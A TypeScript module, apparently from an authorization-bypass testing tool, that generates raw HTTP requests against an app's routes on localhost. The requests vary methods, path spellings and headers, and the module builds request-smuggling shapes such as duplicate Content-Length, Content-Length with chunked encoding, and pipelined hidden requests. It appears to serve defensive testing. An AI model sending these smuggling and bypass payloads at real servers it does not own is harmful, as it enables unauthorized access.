/**
 * Everything that is sent at a route.
 *
 * Shape   every method with every spelling of the path, or with some of them; then the route's own methods with odd
 *         headers, then several requests on one connection. A generator: a large app's attack is never in memory.
 * Errors  None.
 *
 * @module
 */
import { METHODS } from 'node:http'
import { type Exchange, PLAIN } from './bypass.js'
import { type Extras, headerVariants } from './header-variants.js'
import { pathVariants, type Variant } from './path-variants.js'

/** A route to aim at. */
export interface Target {
  /** As the app wrote it. */
  readonly route: string
  /** A path that it matches. */
  readonly path: string
  /** In upper case. */
  readonly methods: readonly string[]
}

export interface AttackOptions {
  /** Header lines of a caller who may do nothing. */
  readonly headers: readonly string[]
  /** Paths that the app may let everybody see. */
  readonly others: readonly string[]
  /** Every method with every spelling, and not only with the path as it is. */
  readonly thorough: boolean
}

/** Methods that Node's parser does not know, and one in lower case: it looks no further, so one path is enough. */
const UNKNOWN_METHODS = ['FOO', 'get', 'GETX']

export function* attack(target: Target, options: AttackOptions): Generator<Exchange> {
  const { route, path } = target
  const { headers } = options
  const methods = options.thorough ? METHODS : new Set([...target.methods, 'GET', 'HEAD'])
  for (const { title, target: spelt } of pathVariants(path, options.others)) {
    for (const method of title === PLAIN ? [...METHODS, ...UNKNOWN_METHODS] : methods) {
      yield { title, route, method, bytes: head(method, spelt, [...headers, CLOSE]) }
    }
  }
  for (const method of target.methods) {
    for (const extras of headerVariants(method, path)) {
      yield { route, ...withExtras({ title: method, target: path }, extras, headers) }
    }
    yield* pipelines({ route, path, method }, options)
  }
}

const CLOSE = 'Connection: close'

function head(method: string, target: string, lines: readonly string[]): string {
  return [`${method} ${target} HTTP/1.1`, 'Host: 127.0.0.1', ...lines, '', ''].join('\r\n')
}

function withExtras(
  { title: method, target }: Variant,
  extras: Extras,
  headers: readonly string[],
): Omit<Exchange, 'route'> {
  const { title, lines, body = '', query = '', method: sent = method } = extras
  // A caller's own credentials would make every other a second one, and each is tried by itself.
  const names = lines.map((line) => line.split(':')[0]?.toLowerCase())
  const kept = headers.filter((line) => !names.includes(line.split(':')[0]?.toLowerCase()))
  const end = names.includes('connection') ? [] : [CLOSE]
  const bytes = `${head(sent, `${target}${query}`, [...kept, ...lines, ...end])}${body}`
  return { title, method: sent, bytes }
}

interface Aim {
  readonly route: string
  readonly path: string
  readonly method: string
}

/** One connection, several requests: what was decided about one must not count for the next. */
function* pipelines(
  { route, path, method }: Aim,
  { headers, others }: AttackOptions,
): Generator<Exchange> {
  const wanted = head(method, path, [...headers, CLOSE])
  const open = (target: string, lines: readonly string[] = []) =>
    head('GET', target, [...headers, ...lines])
  const hidden = head(method, path, headers)
  const chunked = `0\r\n\r\n${hidden}`
  const shapes: readonly (readonly [title: string, bytes: string])[] = [
    ['pipelined twice', `${hidden}${wanted}`],
    ['pipelined behind other paths', `${others.map((other) => open(other)).join('')}${wanted}`],
    ['pipelined behind OPTIONS', `${head('OPTIONS', path, headers)}${wanted}`],
    ['behind a body', `${open('/', ['Content-Length: 4'])}abcd${wanted}`],
    ['inside a body', `${open('/', [`Content-Length: ${hidden.length}`])}${hidden}${wanted}`],
    [
      'behind two lengths',
      `${open('/', ['Content-Length: 0', `Content-Length: ${hidden.length}`])}${wanted}`,
    ],
    [
      'behind a length and chunks',
      `${open('/', [`Content-Length: ${chunked.length}`, 'Transfer-Encoding: chunked'])}${chunked}${wanted}`,
    ],
    [
      'HTTP/1.0',
      `${method} ${path} HTTP/1.0\r\n${headers.map((line) => `${line}\r\n`).join('')}\r\n`,
    ],
    ['empty lines before', `\r\n\r\n${wanted}`],
    ['bare line feeds', wanted.replaceAll('\r\n', '\n')],
  ]
  const beside = ['/', ...others]
  for (const [title, bytes] of shapes) yield { title, route, method, bytes, beside }
}
